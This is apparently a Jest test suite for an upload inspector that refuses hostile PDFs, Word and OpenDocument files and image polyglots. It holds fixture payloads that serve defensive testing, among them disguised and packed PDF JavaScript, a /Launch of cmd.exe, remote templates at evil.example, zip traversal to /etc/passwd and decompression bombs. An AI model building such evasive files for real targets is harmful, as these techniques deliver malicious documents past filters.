import { describe, expect, it } from '@jest/globals';
import sharp from 'sharp';
import { deflateSync } from 'node:zlib';
import { claimedPng, docm, docx, modernPdf, odp, odt, packedPdf, pdf, picture, xlsm, xlsx, zip } from '../../../../test/files.js';
import { inspect } from './inspect.js';
import { lookThrough } from './look-through.js';

const SCRIPT = '1 0 << /S /JavaScript /JS (x) >>';
const PACKED = '/Type /ObjStm /Filter /FlateDecode';
const hex = (bytes: Buffer): Buffer => Buffer.from(`${bytes.toString('hex')}>`, 'latin1');
/** Each byte as the difference to the one above it, in rows of eight. */
const predicted = (bytes: Buffer): Buffer => {
  const rows = Array.from({ length: Math.ceil(bytes.length / 8) }, (_, row) => [2, ...Array.from({ length: 8 }, (__, column) => ((bytes[row * 8 + column] ?? 32) - (row === 0 ? 0 : bytes[row * 8 + column - 8] ?? 32)) & 255)]);
  return deflateSync(Buffer.from(rows.flat()));
};
const behind = (before: string, objects = SCRIPT): Buffer => { const made = packedPdf(objects); return Buffer.concat([made.subarray(0, 9), Buffer.from(before, 'latin1'), made.subarray(9)]); };

const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
/** A Word document with one relationship, whose type, target and mode are said in these words. */
const related = (attributes: string, write = (xml: string): Buffer => Buffer.from(xml)): Buffer => docx({ 'word/_rels/document.xml.rels': write(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" ${attributes}/></Relationships>`) });
const external = (type: string, target: string): string => `Type="${TYPE}/${type}" Target="${target}" TargetMode="External"`;
const utf16 = (xml: string): Buffer => Buffer.from(`\ufeff${xml.replace('?>', ' encoding="UTF-16"?>')}`, 'utf16le');
const content = (inner: string): string => `<office:document-content xmlns:office="o" xmlns:text="t" xmlns:draw="d" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="s" xmlns:chart="c">${inner}</office:document-content>`;
const text = (inner: string, part = 'content.xml'): Buffer => odt({ [part]: content(inner) });
const OLE = Buffer.from('d0cf11e0a1b11ae10000', 'hex');

const problem = async (bytes: Buffer): Promise<string | null> => {
  const inspected = await inspect(bytes, lookThrough);
  return inspected.ok ? null : inspected.problem;
};

describe('A file that is uploaded', () => {
  it.each([
    ['a PDF', () => pdf()], ['a PDF with packed objects', () => packedPdf('<< /Type /Page >>')], ['a PDF as writers of today make it', () => modernPdf()],
    ['a PDF that says in a list how it is packed', () => packedPdf('<< /Type /Page >>', '/Type /Obj#53tm /Filter [/FlateDecode] /DecodeParms [null]')], ['a PDF with padding', () => packedPdf('<< /Type /Page >>', `${PACKED}${' '.repeat(3_000)}`)],
    ['a Word document', () => docx()], ['an OpenDocument text', () => odt()],
    ['a Word document with a link', () => related(external('hyperlink', 'https://careers.example/a?b=c'))], ['a Word document in UTF-16 with a link', () => related(external('hyperlink', 'mailto:careers@calderfold.example'), utf16)],
    ['a Word document with a picture', () => related(`Type="${TYPE}/image" Target="media/a.png"`)], ['a Word document with the table of a chart', () => docx({ 'word/embeddings/Microsoft_Excel_Sheet.xlsx': xlsx() })],
    ['an OpenDocument text with links, a picture and a chart', () => odt({ 'content.xml': content('<office:scripts/><text:a xlink:href="https://careers.example/">a</text:a><draw:a xlink:href="mailto:a@calderfold.example"/><text:a xlink:href="#1.Aims|outline">b</text:a><draw:image xlink:href="Pictures/1.png"/><draw:object xlink:href="./Object 1"/><draw:image xlink:href="./ObjectReplacements/Object 1"/>'), 'Object 1/content.xml': content('<chart:chart xlink:href=".."/>'), 'ObjectReplacements/Object 1': 'VCLMTF', 'meta.xml': '<meta xmlns:xlink="x"><template xlink:href="file:///C:/Templates/plan.ott"/></meta>' })],
    ['OpenDocument slides', () => odp(content('<draw:a xlink:href="https://careers.example/"/><draw:image xlink:href="Pictures/1.png"/>'))],
  ])('is kept byte for byte: %s', async (_name, made) => {
    const bytes = made();
    expect(await inspect(bytes, lookThrough)).toMatchObject({ ok: true, file: { bytes } });
  });

  it('is looked through in a thread, which answers the same', async () => {
    expect(await inspect(modernPdf())).toMatchObject({ ok: true });
    expect(await inspect(packedPdf(SCRIPT))).toMatchObject({ ok: false, problem: expect.stringContaining('script') });
    expect(await inspect(docx())).toMatchObject({ ok: true });
    expect(await inspect(docx({ 'word/vbaProject.bin': 'macro' }))).toMatchObject({ ok: false, problem: expect.stringContaining('macros') });
  });

  it.each(['png', 'jpeg', 'webp'] as const)('is made anew where it is a %s, with nothing behind the pixels', async (format) => {
    const sent = await sharp(await picture(60, 40, format)).withExif({ IFD0: { Copyright: 'Somebody at home' }, IFD3: { GPSLatitude: '51/1 30/1 0/1' } }).toFormat(format).toBuffer();
    const polyglot = Buffer.concat([sent, Buffer.from('<script>alert(1)</script>')]);
    const inspected = await inspect(polyglot);
    if (!inspected.ok) throw new Error(inspected.problem);
    const text = inspected.file.bytes.toString('latin1');
    expect([text.includes('Somebody at home'), text.includes('script'), (await sharp(inspected.file.bytes).metadata()).exif]).toEqual([false, false, undefined]);
    expect(inspected.file).toMatchObject({ type: `image/${format}`, width: 60, height: 40 });
  });

  it('is turned upright and made smaller where it is a large picture', async () => {
    const lying = await sharp(await picture(3000, 1000, 'jpeg')).withMetadata({ orientation: 6 }).jpeg().toBuffer();
    expect(await inspect(lying)).toMatchObject({ ok: true, file: { width: 800, height: 2400 } });
  });

  it('is refused from its header where it claims more pixels than anybody decodes', async () => {
    const before = process.memoryUsage().rss;
    expect(await problem(claimedPng(30_000, 30_000))).toContain('30000 × 30000');
    expect(process.memoryUsage().rss - before).toBeLessThan(200_000_000);
  });

  it.each<[string, () => Buffer | Promise<Buffer>, string]>([
    ['nothing', () => Buffer.alloc(0), 'empty'],
    ['words', () => Buffer.from('Just words, called picture.png'), 'none of the files'],
    ['SVG', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'SVG'],
    ['SVG with a declaration', () => Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'), 'SVG'],
    ['HTML', () => Buffer.from('<!doctype html><script>alert(1)</script>'), 'Web pages'],
    ['a GIF', () => picture(4, 4, 'gif'), 'GIF'],
    ['a GIF that is script', () => Buffer.from('GIF89a/*<script>*/=1;alert(1)//'), 'Web pages'],
    ['a PNG of which only the beginning is one', () => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from('<script>alert(1)</script>')]), 'script'],
    ['a PNG that breaks off', async () => (await picture(400, 400)).subarray(0, 300), 'cannot be read'],
    ['a PDF behind a web page', () => Buffer.concat([Buffer.from('<html><script>alert(1)</script></html>'), pdf()]), 'Web pages'],
    ['a PDF in front of a web page', () => Buffer.concat([pdf(), Buffer.from('<html><script>alert(1)</script></html>'), Buffer.alloc(2_000, 32)]), 'follows its end'],
    ['a PDF with script', () => pdf('1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj\n'), 'script'],
    ['a PDF with script in disguise', () => pdf('1 0 obj\n<< /OpenAction << /S /J#61va#53cript /JS (x) >> >>\nendobj\n'), 'script'],
    ['a PDF with packed script', () => packedPdf('1 0 << /S /JavaScript /JS (x) >>'), 'script'],
    ['a PDF with packed script in a disguised stream', () => packedPdf('1 0 << /S /JavaScript /JS (x) >>', '/Type /Obj#53tm /Filter [/FlateDecode]'), 'script'],
    ['a PDF packed twice', () => packedPdf('x', '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]'), 'packed'],
    ['a PDF with script packed in hexadecimal', () => packedPdf(SCRIPT, '/Type /ObjStm /Filter [/FlateDecode /ASCIIHexDecode]', (objects) => deflateSync(hex(objects))), 'packed'],
    ['a PDF with script packed twice over', () => packedPdf(SCRIPT, '/Type /ObjStm /Filter [/FlateDecode /FlateDecode]', (objects) => deflateSync(deflateSync(objects))), 'packed'],
    ['a PDF with script behind a predictor', () => packedPdf(SCRIPT, `${PACKED} /DecodeParms << /Predictor 12 /Columns 8 >>`, predicted), 'packed'],
    ['a PDF with script in a stream that speaks of objects', () => packedPdf(SCRIPT, `${PACKED} /X ( obj)`), 'packed'],
    ['a PDF with script behind padding', () => packedPdf(SCRIPT, `${PACKED}${' '.repeat(3_000)}`), 'script'],
    ['a PDF with script behind a long comment', () => packedPdf(SCRIPT, `${PACKED} %${'x'.repeat(3_000)}\n`), 'script'],
    ['a PDF with script in names all of disguise', () => packedPdf('1 0 << /S /Java#53cript /JS (x) >>', '/Type /ObjS#74m /F#69lter /Flate#44ecode'), 'script'],
    ['a PDF with script in a stream that does not say that objects stand in it', () => packedPdf(SCRIPT, '/Filter /FlateDecode'), 'packed'],
    ['a PDF that names its filter elsewhere', () => packedPdf(SCRIPT, '/Type /ObjStm /Filter 7 0 R'), 'packed'],
    ['a PDF that names two filters', () => packedPdf(SCRIPT, `${PACKED} /Filter /ASCIIHexDecode`), 'packed'],
    ['a PDF with packed objects in a comment', () => behind('% 1 0 obj << /Type /ObjStm /N 1 /First 4 /X\n'), 'more than one way'],
    ['a PDF with packed objects in a string', () => behind('1 0 obj (', `${SCRIPT})`), 'more than one way'],
    ['a PDF with packed objects in a stream', () => behind('1 0 obj << /Length 500 >>\nstream\n'), 'more than one way'],
    ['a PDF with packed objects in an object that does not end', () => behind('1 0 obj << /N 1 /X\n'), 'more than one way'],
    ['a PDF that says its packed objects are shorter', () => packedPdf(SCRIPT, `${PACKED} /Length 9`), 'packed'],
    ['a PDF with objects nested without end', () => behind(`1 0 obj ${'['.repeat(100_000)}\n`), 'more than one way'],
    ['a PDF with a file at a note', () => pdf('1 0 obj\n<< /Subtype /FileAttachment >>\nendobj\n'), 'another file'],
    ['a PDF that is a bomb', () => packedPdf('a'.repeat(70_000_000)), 'packed'],
    ['a PDF that starts a program', () => pdf('1 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'), 'program'],
    ['a PDF with a file inside', () => pdf('1 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n'), 'another file'],
    ['a PDF with a file that does not say its type', () => pdf('1 0 obj\n<< /Type /Filespec /EF << /F 5 0 R >> >>\nendobj\n'), 'another file'],
    ['a protected PDF', () => pdf('1 0 obj\n<< /Encrypt 3 0 R >>\nendobj\n'), 'protected'],
    ['a Word document with macros', () => docm(), 'macros'],
    ['a Word document with macros that does not say so', () => docx({ 'word/vbaProject.bin': 'macro' }), 'macros'],
    ['an OpenDocument text with macros', () => odt({ 'Basic/Standard/Module1.xml': '<module/>' }), 'macros'],
    ['a Word document with a program', () => docx({ 'word/embeddings/run.exe': 'MZ' }), 'can run'],
    ['a Word document that fetches its template', () => docx({ 'word/_rels/settings.xml.rels': '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>' }), 'fetches'],
    ['a Word document that fetches its template, said in single quotes', () => related(external('attachedTemplate', 'https://evil.example/t.dotm').replaceAll('"', "'")), 'fetches'],
    ['a Word document that fetches its template, said with blanks', () => related(external('attachedTemplate', 'https://evil.example/t.dotm').replace('="External"', ' = " External "')), 'fetches'],
    ['a Word document that fetches its template, said in letters by number', () => related(external('attachedTemplate', 'https://evil.example/t.dotm').replace('External', '&#69;xternal')), 'fetches'],
    ['a Word document that fetches its template, said in UTF-16', () => related(external('attachedTemplate', 'https://evil.example/t.dotm'), utf16), 'fetches'],
    ['a Word document in another encoding than it declares', () => related('Target="media/a.png"', (xml) => Buffer.from(xml.replace('?>', ' encoding="UTF-7"?>'))), 'damaged'],
    ['a Word document with a picture on another machine', () => related(external('image', 'file://host/share/x.png')), 'fetches'],
    ['a Word document with a picture on another machine that it calls its own', () => related(`Type="${TYPE}/image" Target="file://host/share/x.png"`), 'fetches'],
    ['a Word document with a link to another machine', () => related(external('hyperlink', 'file://host/share/x')), 'A link in it'],
    ['a Word document with a link to script', () => related(external('hyperlink', 'java&#9;script:alert(1)')), 'A link in it'],
    ['a Word document with a link said twice', () => related(`${external('hyperlink', 'https://careers.example/')} x:Target="file://host/x"`), 'damaged'],
    ['a Word document with relationships that break off', () => docx({ 'word/_rels/document.xml.rels': '<Relationships><Relationship' }), 'damaged'],
    ['a Word document with entities of its own', () => docx({ 'word/_rels/document.xml.rels': '<!DOCTYPE a [<!ENTITY e "External">]><a/>' }), 'damaged'],
    ['a Word document with an object under another name', () => docx({ 'word/media/image1.png': OLE }), 'another file'],
    ['a Word document with an object that it relates to', () => related(`Type="${TYPE}/oleObject" Target="media/a.png"`), 'another file'],
    ['a Word document with another in it', () => related(`Type="${TYPE}/aFChunk" Target="a.mht"`), 'another file'],
    ['a Word document with a program under another name', () => docx({ 'word/media/image1.png': 'MZ' }), 'can run'],
    ['a Word document with a table that has macros', () => docx({ 'word/embeddings/sheet.xlsm': xlsm() }), 'macros'],
    ['a Word document with a table that has macros and another name', () => docx({ 'word/media/image1.png': xlsm() }), 'macros'],
    ['a Word document with a table that fetches', () => docx({ 'word/embeddings/sheet.xlsx': xlsx({ 'xl/_rels/workbook.xml.rels': `<a><Relationship ${external('externalLinkPath', 'file://host/x.xlsx')}/></a>` }) }), 'fetches'],
    ['a Word document with a table that has a document in it', () => docx({ 'word/embeddings/sheet.xlsx': xlsx({ 'xl/embeddings/a.docx': docx() }) }), 'holds another'],
    ['a Word document with any other file in it', () => docx({ 'word/embeddings/a.xlsx': 'words' }), 'another file'],
    ['a Word document with a bomb in it', () => docx({ 'word/embeddings/a.xlsx': xlsx({ 'xl/a.xml': Buffer.alloc(80_000_000) }) }), 'too large'],
    ['an OpenDocument text with a picture elsewhere', () => text('<draw:image xlink:href="https://evil.example/x.png"/>'), 'fetches'],
    ['an OpenDocument text with a picture on another machine', () => text('<draw:image xlink:href="//host/share/x.png"/>'), 'fetches'],
    ['an OpenDocument text with a picture beside it', () => text('<draw:image xlink:href="Pictures/%2e%2e/../x.png"/>'), 'fetches'],
    ['an OpenDocument text with a picture elsewhere in its styles', () => text('<draw:fill-image xlink:href="file://host/x.png"/>', 'styles.xml'), 'fetches'],
    ['an OpenDocument text with an address in a name of its own', () => text('<draw:image xmlns:l="http://www.w3.org/1999/xlink" l:href="file://host/x.png" xlink:href="Pictures/1.png"/>'), 'fetches'],
    ['an OpenDocument text with an object elsewhere', () => text('<draw:object xlink:href="file://host/x.odt"/>'), 'fetches'],
    ['an OpenDocument text with an object', () => text('<draw:object-ole xlink:href="./Object 1"/>'), 'another file'],
    ['an OpenDocument text with a link to another machine', () => text('<text:a xlink:href="smb://host/share">a</text:a>'), 'A link in it'],
    ['an OpenDocument text with a link to a macro', () => text('<office:event-listeners><script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:a?language=Python&amp;location=share"/></office:event-listeners>'), 'macros'],
    ['an OpenDocument text with script in its words', () => text('<text:script script:language="JavaScript">alert(1)</text:script>'), 'macros'],
    ['an OpenDocument text with scripts beside it', () => odt({ 'Scripts/python/a.py': 'x' }), 'macros'],
    ['an OpenDocument text that loads itself anew', () => text('<auto-reload xlink:href="https://evil.example/"/>', 'meta.xml'), 'fetches'],
    ['an OpenDocument text with a template elsewhere', () => text('<template xlink:href="https://evil.example/t.ott"/>', 'meta.xml'), 'fetches'],
    ['an OpenDocument text that breaks off', () => odt({ 'content.xml': '<document>' }), 'damaged'],
    ['OpenDocument slides with a frame elsewhere', () => odp(content('<draw:floating-frame xlink:href="https://evil.example/"/>')), 'fetches'],
    ['a Word document that climbs', () => docx({ '../../etc/passwd': 'x' }), 'cannot be unpacked'],
    ['a bomb', () => docx({ 'word/media/a.xml': Buffer.alloc(80_000_000) }), 'too large'],
    ['a bomb that says it is small', () => docx({ 'word/media/a.xml': Buffer.alloc(80_000_000) }, 1_000), 'cannot be unpacked'],
    ['any other ZIP', () => zip({ 'readme.txt': 'hello' }), 'none of the files'],
  ])('is refused where it is %s', async (_name, made, words) => {
    expect(await problem(await made())).toContain(words);
  });
});
